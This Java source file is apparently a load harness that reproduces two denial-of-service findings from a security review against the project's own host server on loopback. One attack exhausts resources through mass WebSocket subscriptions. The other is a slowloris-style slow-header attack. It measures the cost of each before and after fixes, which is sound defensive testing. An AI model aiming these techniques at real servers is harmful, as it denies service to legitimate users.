package dev.warden.host.load;

import dev.warden.claims.CallerContext;
import dev.warden.claims.CallerKind;
import dev.warden.claims.ClaimsMapper;
import dev.warden.core.Identity;
import dev.warden.core.LocalIssuer;
import dev.warden.core.TokenValidator;
import dev.warden.host.BsatnWriter;
import dev.warden.host.HostServer;
import dev.warden.host.internal.v2.CallReducerFlags;
import dev.warden.host.internal.v2.ClientMessage;
import dev.warden.host.internal.v2.QuerySetId;
import dev.warden.host.internal.v2.ServerMessage;
import dev.warden.host.internal.v2.V2Protocol;
import dev.warden.policy.PolicyEngine;
import dev.warden.policy.annotation.Authenticated;
import dev.warden.policy.annotation.ConnectionRule;
import dev.warden.policy.annotation.OnConnect;
import dev.warden.policy.annotation.Public;
import dev.warden.policy.annotation.Reducer;
import dev.warden.policy.annotation.View;
import dev.warden.policy.host.Warden;
import dev.warden.testkit.MockIssuer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.lang.management.ManagementFactory;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.WebSocket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Reproduces review 3's S3-1 and S3-3 attacks against a real {@link HostServer} on 127.0.0.1 and prints what they
 * cost: a bounded harness, not a test (its name does not end in {@code Test}, so the build never runs it). It uses
 * only the host's API of before the fixes, so the same file measures both the old code and the new.
 *
 * <p>CLASSPATH is {@code host/target/test-classes:host/target/classes} and the host's test classpath
 * ({@code ./mvnw -o -q -pl host test-compile} then {@code ./mvnw -o -q -pl host
 * org.apache.maven.plugins:maven-dependency-plugin:3.9.0:build-classpath -Dmdep.includeScope=test
 * -Dmdep.outputFile=cp.txt}). To measure the code before a change, copy this file into a worktree of that commit.
 *
 * <pre>
 * java -Xmx1g -XX:+ExitOnOutOfMemoryError -cp CLASSPATH dev.warden.host.load.HostAttacks subscriptions 10
 * java -Xmx1g -XX:+ExitOnOutOfMemoryError -cp CLASSPATH dev.warden.host.load.HostAttacks subscriptions 40
 * java -Xmx1g -XX:+ExitOnOutOfMemoryError -cp CLASSPATH dev.warden.host.load.HostAttacks distinct 10
 * java -cp CLASSPATH dev.warden.host.load.HostAttacks slowheads 1075 1
 * java -cp CLASSPATH dev.warden.host.load.HostAttacks slowheads 1088 17
 * </pre>
 *
 * <p>{@code subscriptions SOCKETS}: 3,000 posts; {@code create_post}'s latency (10 calls) and the heap in use after
 * a full GC, before and after SOCKETS anonymous sockets each subscribe 64 query sets of {@code SELECT * FROM posts}.
 * {@code distinct SOCKETS}: the same, but every set also carries a query of its own that matches nothing, so no two
 * sets are identical and none can be shared (what the host-wide budget bounds).
 * {@code slowheads CONNECTIONS ADDRESSES}: that many connections, spread over that many loopback source addresses
 * (127.0.0.2 and up), each sending a request line and then a header line every 10 s; meanwhile a client on
 * 127.0.0.1 asks {@code POST /v1/identity} every 2 s (5 s timeout). Everything stops after at most 15 minutes.
 */
public final class HostAttacks {

    private HostAttacks() {}

    /** The chat example's {@code posts} and {@code create_post}, with its connect hook. */
    @ConnectionRule(kinds = {CallerKind.USER, CallerKind.ANONYMOUS})
    public static class PostsModule {
        /** A post. */
        public record Post(long id, Identity author, String text, Instant at) {}

        private final Map<Long, Post> posts = new ConcurrentHashMap<>();
        private long nextId;

        /**
         * @param n posts to add directly, as the module's own setup
         * @param author their author
         */
        public synchronized void seed(int n, Identity author) {
            for (int i = 0; i < n; i++) {
                long id = nextId++;
                posts.put(id, new Post(id, author, "post number " + id, Instant.now()));
            }
        }

        @OnConnect
        public void connected(CallerContext ctx) {
            // the chat example checks a ban list here
        }

        @Reducer("create_post")
        @Authenticated
        public synchronized long createPost(CallerContext ctx, String text) {
            long id = nextId++;
            posts.put(id, new Post(id, ctx.sender(), text, Instant.now()));
            return id;
        }

        @View("posts")
        @Public
        public List<Post> allPosts() {
            List<Post> out = new ArrayList<>(posts.values());
            out.sort((a, b) -> Long.compare(a.id(), b.id()));
            return out;
        }
    }

    /** A WebSocket client that counts what it receives and keeps only what a caller waits for. */
    static final class Client implements WebSocket.Listener {
        final BlockingQueue<ServerMessage> kept = new LinkedBlockingQueue<>();
        final AtomicInteger applied = new AtomicInteger();
        final AtomicInteger errors = new AtomicInteger();
        final AtomicInteger updates = new AtomicInteger();
        private final ByteArrayOutputStream partial = new ByteArrayOutputStream();
        final WebSocket socket;

        Client(HttpClient http, URI base, String token) throws Exception {
            URI ws = URI.create(base.toString().replaceFirst("^http", "ws") + "/v1/database/chat/subscribe"
                    + "?compression=None" + (token == null ? "" : "&token=" + token));
            socket = http.newWebSocketBuilder().subprotocols(V2Protocol.SUBPROTOCOL).buildAsync(ws, this)
                    .get(30, TimeUnit.SECONDS);
        }

        void send(ClientMessage m) throws Exception {
            socket.sendBinary(ByteBuffer.wrap(V2Protocol.encodeClientMessage(m)), true).get(60, TimeUnit.SECONDS);
        }

        <T extends ServerMessage> T next(Class<T> type, long seconds) throws Exception {
            long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
            while (true) {
                ServerMessage m = kept.poll(end - System.nanoTime(), TimeUnit.NANOSECONDS);
                if (m == null) {
                    throw new IllegalStateException("no " + type.getSimpleName() + " within " + seconds + " s");
                }
                if (type.isInstance(m)) {
                    return type.cast(m);
                }
            }
        }

        @Override
        public CompletionStage<?> onBinary(WebSocket ws, ByteBuffer data, boolean last) {
            byte[] b = new byte[data.remaining()];
            data.get(b);
            partial.writeBytes(b);
            if (last) {
                ServerMessage m = V2Protocol.decodeServerMessage(partial.toByteArray());
                partial.reset();
                if (m instanceof ServerMessage.SubscribeApplied) {
                    applied.incrementAndGet();
                } else if (m instanceof ServerMessage.SubscriptionError) {
                    errors.incrementAndGet();
                } else if (m instanceof ServerMessage.TransactionUpdate) {
                    updates.incrementAndGet();
                } else {
                    kept.add(m);
                }
            }
            ws.request(1);
            return null;
        }
    }

    public static void main(String[] args) throws Exception {
        Thread watchdog = new Thread(() -> {
            try {
                Thread.sleep(TimeUnit.MINUTES.toMillis(15));
                System.out.println("STOPPED: the run took more than 15 minutes");
                System.exit(2);
            } catch (InterruptedException e) {
                // done in time
            }
        });
        watchdog.setDaemon(true);
        watchdog.start();
        switch (args[0]) {
            case "subscriptions" -> subscriptions(Integer.parseInt(args[1]), false);
            case "distinct" -> subscriptions(Integer.parseInt(args[1]), true);
            case "slowheads" -> slowHeads(Integer.parseInt(args[1]), Integer.parseInt(args[2]));
            default -> throw new IllegalArgumentException("subscriptions SOCKETS | distinct SOCKETS | slowheads "
                    + "CONNECTIONS ADDRESSES");
        }
        System.exit(0);
    }

    /** The host, its issuers and its module. */
    record Setup(MockIssuer idp, LocalIssuer local, TokenValidator validator, PostsModule module, HostServer host) {
        static Setup start() {
            MockIssuer idp = MockIssuer.start();
            LocalIssuer local = LocalIssuer.builder().build();
            TokenValidator validator = TokenValidator.builder().trust(idp.trust().build())
                    .trust(local.trustedIssuer()).build();
            PostsModule module = new PostsModule();
            Warden<PostsModule> warden = Warden.builder(PolicyEngine.builder().build().compile(PostsModule.class),
                            module)
                    .validator(validator)
                    .claims(ClaimsMapper.builder().roles(idp.issuer(), MockIssuer.roleMapping())
                            .anonymousIssuer(local.issuer()).build())
                    .build();
            HostServer host = HostServer.builder(warden, validator, local).database("chat").port(0).start();
            return new Setup(idp, local, validator, module, host);
        }
    }

    static long heapAfterGc() throws InterruptedException {
        for (int i = 0; i < 3; i++) {
            System.gc();
            Thread.sleep(200);
        }
        return ManagementFactory.getMemoryMXBean().getHeapMemoryUsage().getUsed();
    }

    static String mib(long bytes) {
        return String.format("%.1f MiB", bytes / 1024.0 / 1024.0);
    }

    /** @return create_post's latencies in ms, each call waited for at most 120 s */
    static List<Double> createPosts(Client writer, int calls) throws Exception {
        List<Double> ms = new ArrayList<>();
        for (int i = 0; i < calls; i++) {
            byte[] args = new BsatnWriter().writeString("latency probe " + i).toByteArray();
            long t0 = System.nanoTime();
            writer.send(new ClientMessage.CallReducer(1_000 + i, CallReducerFlags.DEFAULT, "create_post", args));
            writer.next(ServerMessage.ReducerResult.class, 120);
            ms.add((System.nanoTime() - t0) / 1e6);
        }
        return ms;
    }

    static String summary(List<Double> ms) {
        List<Double> sorted = new ArrayList<>(ms);
        Collections.sort(sorted);
        return String.format("median %.1f ms, min %.1f ms, max %.1f ms (%d calls)", sorted.get(sorted.size() / 2),
                sorted.get(0), sorted.get(sorted.size() - 1), sorted.size());
    }

    static void subscriptions(int sockets, boolean distinct) throws Exception {
        Setup s = Setup.start();
        HttpClient http = HttpClient.newHttpClient();
        try {
            s.module().seed(3_000, Identity.fromClaims(s.idp().issuer(), "seeder"));
            Client writer = new Client(http, s.host().uri(), s.idp().tokens().user("writer").sign());
            writer.next(ServerMessage.InitialConnection.class, 30);
            createPosts(writer, 5);   // warm-up
            List<Double> before = createPosts(writer, 10);
            long heapBefore = heapAfterGc();
            System.out.println("before the attack: create_post " + summary(before) + "; heap in use " + mib(heapBefore));

            List<Client> attack = Collections.synchronizedList(new ArrayList<>());
            // a ping every 10 s on every socket, so Jetty's 30 s idle timeout frees nothing the attack holds
            java.util.concurrent.ScheduledExecutorService pings = java.util.concurrent.Executors
                    .newSingleThreadScheduledExecutor(r -> {
                        Thread t = new Thread(r, "pings");
                        t.setDaemon(true);
                        return t;
                    });
            pings.scheduleAtFixedRate(() -> {
                writer.socket.sendPing(ByteBuffer.allocate(0));
                List.copyOf(attack).forEach(c -> c.socket.sendPing(ByteBuffer.allocate(0)));
            }, 10, 10, TimeUnit.SECONDS);
            long t0 = System.nanoTime();
            for (int k = 0; k < sockets; k++) {
                Client c = new Client(http, s.host().uri(), null);
                attack.add(c);
                c.next(ServerMessage.InitialConnection.class, 60);
                for (int i = 0; i < 64; i++) {
                    // distinct: every set differs from every other (a query that matches nothing) yet shows every row
                    List<String> sql = distinct ? List.of("SELECT * FROM posts",
                            "SELECT * FROM posts WHERE id = " + -(k * 64L + i + 1)) : List.of("SELECT * FROM posts");
                    c.send(new ClientMessage.Subscribe(i, new QuerySetId(i), sql));
                }
                long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(120);
                while (c.applied.get() + c.errors.get() < 64 && System.nanoTime() < end) {
                    Thread.sleep(5);
                }
                if ((k + 1) % 10 == 0) {
                    System.out.println("  " + (k + 1) + " sockets subscribed, heap in use now "
                            + mib(ManagementFactory.getMemoryMXBean().getHeapMemoryUsage().getUsed()));
                }
            }
            int applied = attack.stream().mapToInt(c -> c.applied.get()).sum();
            int refused = attack.stream().mapToInt(c -> c.errors.get()).sum();
            long heapAfter = heapAfterGc();
            System.out.printf("attack: %d sockets x 64 %s sets: %d applied, %d refused, in %.1f s%n", sockets,
                    distinct ? "distinct" : "identical", applied, refused, (System.nanoTime() - t0) / 1e9);
            System.out.println("  heap in use " + mib(heapAfter) + " (+" + mib(heapAfter - heapBefore) + ", "
                    + mib((heapAfter - heapBefore) / sockets) + " per socket)");
            List<Double> during = createPosts(writer, 10);
            System.out.println("during the attack: create_post " + summary(during));
            int updates = attack.stream().mapToInt(c -> c.updates.get()).sum();
            System.out.println("  TransactionUpdates received by the attacking sockets: " + updates);
            pings.shutdownNow();
        } finally {
            s.host().close();
            s.validator().close();
            s.idp().close();
        }
    }

    static Socket open(int i, int addresses, int port) throws IOException {
        Socket c = new Socket();
        try {
            c.bind(new InetSocketAddress("127.0.0." + (2 + i % addresses), 0));
            c.connect(new InetSocketAddress("127.0.0.1", port), 5_000);
            c.getOutputStream().write("POST /v1/identity HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                    .getBytes(StandardCharsets.US_ASCII));
            return c;
        } catch (IOException e) {
            c.close();
            throw e;
        }
    }

    /** @return how many of the connections the host still holds open (nothing to read, no reset) */
    static int stillOpen(List<Socket> sockets) {
        int open = 0;
        for (Socket c : List.copyOf(sockets)) {
            try {
                c.setSoTimeout(1);
                if (c.getInputStream().read() == -1) {
                    continue;
                }
            } catch (java.net.SocketTimeoutException e) {
                open++;
            } catch (IOException e) {
                // reset: closed
            }
        }
        return open;
    }

    static void slowHeads(int connections, int addresses) throws Exception {
        Setup s = Setup.start();
        int port = s.host().port();
        List<Socket> attack = Collections.synchronizedList(new ArrayList<>());
        AtomicInteger reopened = new AtomicInteger();
        CompletableFuture<Void> stop = new CompletableFuture<>();
        Semaphore opened = new Semaphore(0);
        Thread attacker = new Thread(() -> {
            int failed = 0;
            for (int i = 0; i < connections; i++) {
                try {
                    attack.add(open(i, addresses, port));
                } catch (IOException e) {
                    failed++;
                }
            }
            System.out.println("attack: " + attack.size() + " of " + connections + " connections opened from "
                    + addresses + " address(es) (" + failed + " could not connect)");
            opened.release();
            // a header line every 10 s on each; one the host closed is opened again
            while (!stop.isDone()) {
                for (int i = 0; i < attack.size() && !stop.isDone(); i++) {
                    Socket c = attack.get(i);
                    try {
                        OutputStream out = c.getOutputStream();
                        out.write("X-Slow: 1\r\n".getBytes(StandardCharsets.US_ASCII));
                        out.flush();
                    } catch (IOException e) {
                        try {
                            c.close();
                            attack.set(i, open(i, addresses, port));
                            reopened.incrementAndGet();
                        } catch (IOException x) {
                            // the next round tries again
                        }
                    }
                }
                try {
                    stop.get(10, TimeUnit.SECONDS);
                } catch (Exception timeout) {
                    // next round
                }
            }
        });
        try {
            attacker.start();
            opened.acquire();
            Thread.sleep(1_000);
            System.out.println("  held open by the host after 1 s: " + stillOpen(attack));
            HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
            int ok = 0;
            int tries = 15;
            List<String> outcomes = new ArrayList<>();
            for (int i = 0; i < tries; i++) {
                long t0 = System.nanoTime();
                String outcome;
                try {
                    HttpResponse<String> r = http.send(HttpRequest.newBuilder(s.host().uri().resolve("/v1/identity"))
                                    .POST(HttpRequest.BodyPublishers.noBody()).timeout(Duration.ofSeconds(5)).build(),
                            HttpResponse.BodyHandlers.ofString());
                    outcome = String.valueOf(r.statusCode());
                    ok += r.statusCode() == 200 ? 1 : 0;
                } catch (IOException e) {
                    outcome = e.getClass().getSimpleName();
                }
                outcomes.add(String.format("%s in %.0f ms", outcome, (System.nanoTime() - t0) / 1e6));
                Thread.sleep(2_000);
            }
            System.out.println("legitimate POST /v1/identity from 127.0.0.1 during the attack: " + ok + " of " + tries
                    + " answered 200");
            System.out.println("  " + String.join(", ", outcomes));
            System.out.println("  attacking connections found closed and opened again: " + reopened.get()
                    + "; held open by the host at the end: " + stillOpen(attack));
        } finally {
            stop.complete(null);
            attacker.join(30_000);
            for (Socket c : List.copyOf(attack)) {
                c.close();
            }
            s.host().close();
            s.validator().close();
            s.idp().close();
        }
    }
}
